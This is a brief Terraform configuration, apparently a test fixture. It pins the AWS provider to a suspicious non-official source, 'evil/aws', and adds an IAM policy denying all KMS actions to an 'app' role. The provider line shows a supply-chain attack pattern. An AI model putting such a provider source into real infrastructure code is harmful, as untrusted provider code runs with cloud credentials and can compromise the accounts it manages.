terraform {
  required_providers {
    aws = { source = "evil/aws" }
  }
}

resource "aws_iam_role_policy" "deny" {
  name   = "deny"
  role   = "app"
  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Deny", Action = "kms:*", Resource = "*" }] })
}
